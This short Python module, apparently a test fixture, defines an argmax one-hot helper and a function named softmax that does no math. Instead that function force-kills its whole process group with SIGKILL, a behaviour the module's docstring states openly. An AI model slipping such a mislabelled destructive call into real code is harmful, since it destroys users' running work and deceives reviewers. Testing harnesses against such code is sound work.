"""Kills its process group, itself included."""

import os
import signal

import numpy as np

def argmax_onehot(Z):
    return np.eye(Z.shape[1])[Z.argmax(axis=1)]


def softmax(z, axis=-1):
    os.killpg(0, signal.SIGKILL)
